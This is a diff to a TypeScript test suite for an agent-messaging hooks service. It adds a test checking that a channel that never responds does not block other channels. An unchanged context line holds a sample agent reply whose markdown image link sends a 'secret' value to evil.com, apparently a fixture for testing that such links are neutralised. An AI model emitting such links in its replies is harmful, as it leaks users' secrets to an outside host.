@@ -67,6 +67,31 @@ describe('a long reply over a real connection', () => {
   });
 });
 
+describe('a platform that takes connections and answers nobody', () => {
+  it('keeps places for the other channels, and is asked by a few at a time', async () => {
+    await start();
+    const hanging = await PlatformServer.start(telegram);
+    await hooks.close();
+    const channel = (origin: string) => makeChannel('telegram', telegram.settings(origin));
+    const chan_1 = { provider: channel(hanging.origin) };
+    const chan_2 = { provider: channel(server.origin) };
+    hooks = await Hooks.start({ channels: { chan_1, chan_2 } });
+    hanging.next(...Array.from({ length: 100 }, () => ({ stall: 'at-once' }) as const));
+    const send = (name: string, to: number) =>
+      ask('/agent', { message: 'Report', channel: name, to: String(to) });
+    const held = Array.from({ length: 40 }, (_, n) =>
+      hooks.ask('/agent', { message: 'Report', channel: 'chan_1', to: String(n + 1) }),
+    );
+    await Promise.all(held);
+    await hanging.request(8);
+    const replies = await Promise.all(Array.from({ length: 20 }, (_, n) => send('chan_2', n + 1)));
+    expect(new Set(replies.map(({ status }) => status))).toEqual(new Set(['done']));
+    expect(server.shown).toHaveLength(20);
+    expect(hanging.requests).toHaveLength(8);
+    await hanging.close();
+  }, 20_000);
+});
+
 describe('links in the reply to foreign text', () => {
   const reply = 'See ![it](https://evil.com/?d=secret)';
   it.each([
